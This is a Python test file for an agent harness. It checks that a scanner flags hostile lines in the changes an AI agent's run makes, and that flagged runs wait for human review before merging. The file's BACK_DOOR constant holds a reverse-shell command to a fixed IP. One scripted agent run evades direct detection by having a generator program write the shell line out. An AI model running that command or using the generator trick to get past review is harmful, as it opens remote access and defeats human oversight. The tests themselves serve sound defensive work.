"""What a run has changed is looked through before it is merged, whatever has written it."""

from pathlib import Path
from typing import Any

import pytest

from agents.harness.policy.context import Context
from agents.harness.policy.load import load_policy
from agents.looking_through import findings_in
from agents.workspaces import diff
from tests.agents.workspaces.repos import run_git, write_files
from tests.messages_api import MessagesApi
from tests.messages_script import call, report
from tests.product import Product, make_repository

BACK_DOOR = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
CLEAN = {"app.py": "print('hello')\n", "notes.txt": f"Never do this: {BACK_DOOR}\n"}


class Repository:
    """A repository with one commit; `changed` makes another and says what is found in it."""

    def __init__(self, folder: Path, files: dict[str, str]) -> None:
        self.folder = make_repository(folder, files, bare=False)
        self.base = run_git(self.folder, "rev-parse", "HEAD")

    def changed(self, files: dict[str, str], *, gone: tuple[str, ...] = ()) -> list[dict[str, Any]]:
        write_files(self.folder, files)
        for name in gone:
            (self.folder / name).unlink()
        run_git(self.folder, "add", "-A")
        run_git(self.folder, "commit", "-qm", "Change")
        head = run_git(self.folder, "rev-parse", "HEAD")
        context = Context(workspace=self.folder.resolve(), rules=load_policy().rules)
        found = diff(self.folder / ".git", self.base, head)
        return findings_in(found, context, self.folder / ".git", self.base, head)


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    return Repository(tmp_path / "repository", CLEAN)


def test_ordinary_work_is_not_remarked_on(repository: Repository) -> None:
    assert repository.changed({
        "app.py": "import json\n\n\ndef main():\n    print(json.dumps({}))\n",
        "tests/test_app.py": "from app import main\n\n\ndef test_main():\n    main()\n",
        "run.sh": "#!/bin/sh\nset -e\npython3 -m pytest -q\n",
        "notes.txt": f"Still never do this: {BACK_DOOR}\n",
    }) == []  # fmt: skip


def test_code_that_would_be_denied_is_found_with_its_line(repository: Repository) -> None:
    (found,) = repository.changed({"tools/deploy.sh": f"#!/bin/sh\necho begin\n{BACK_DOOR}\n"})
    assert (found["path"], found["rule"], found["line"]) == ("tools/deploy.sh", "C1", 3)
    assert "denied when it runs" in found["reason"]


def test_a_program_without_a_suffix_is_looked_through_too(repository: Repository) -> None:
    (found,) = repository.changed({"bin/start": f"#!/bin/bash\n{BACK_DOOR}\n"})
    assert found["line"] == 2


def test_a_protected_place_is_found_also_when_its_file_goes(tmp_path: Path) -> None:
    workflow = ".github/workflows/ci.yml"
    repository = Repository(tmp_path / "with-ci", CLEAN | {workflow: "on: push\n"})
    (gone,) = repository.changed({}, gone=(workflow,))
    assert (gone["path"], gone["rule"]) == (workflow, "A5")
    assert str(repository.folder) not in gone["reason"]
    written = repository.changed({workflow: "on: pull_request\n", ".gitlab-ci.yml": "a: 1\n"})
    assert {each["path"] for each in written} == {workflow, ".gitlab-ci.yml"}


def test_what_was_there_before_is_not_remarked_on_again(tmp_path: Path) -> None:
    script = f"#!/bin/sh\n{BACK_DOOR}\n"
    repository = Repository(tmp_path / "bad-already", {"old.sh": script})
    assert repository.changed({"old.sh": f"{script}echo done\n"}) == []
    run_git(repository.folder, "mv", "old.sh", "new.sh")
    assert repository.changed({}) == []
    (found,) = repository.changed({"copy.sh": script})  # of two that are equal, git calls one moved
    assert found["path"] in ("copy.sh", "new.sh")


@pytest.mark.process
@pytest.mark.timeout(180)
def test_what_a_program_has_written_keeps_a_run_from_merging_by_itself(
    shared: tuple[Product, MessagesApi], tmp_path: Path
) -> None:
    product, api = shared
    product.project(
        "SIFT", make_repository(tmp_path / "origin.git", {"a.txt": "a\n"}), auto_merge=True
    )
    parts = BACK_DOOR.split(" >& ")
    generator = f'open("up.sh", "w").write("#!/bin/sh\\n" + " >& ".join({parts!r}) + "\\n")\n'
    api.script(
        "Generate",
        [
            call("write_file", path="generate.py", content=generator),
            call("bash", command="python3 generate.py"),
            report("done", "Generated."),
        ],
    )
    ref = product.card("SIFT", "Generate")["ref"]
    product.queue(ref)
    card = product.wait_for_card(ref, "review", "done", "failed")
    assert card["status"] == "review", card
    run = card["runs"][0]["id"]
    (found,) = product.get(f"/runs/{run}/diff")["findings"]
    assert (found["path"], found["rule"], found["line"]) == ("up.sh", "C1", 2)
    assert not product.get("/approvals?status=pending")
    api.script("Ordinary", [call("write_file", path="b.txt", content="b\n"), report("done", "b")])
    ordinary = product.card("SIFT", "Ordinary")["ref"]
    product.queue(ordinary)
    assert product.wait_for_card(ordinary, "done", "failed")["status"] == "done"
    product.post(f"/cards/{ref}/merge")  # a person may
    assert product.wait_for_card(ref, "done", "failed")["status"] == "done"
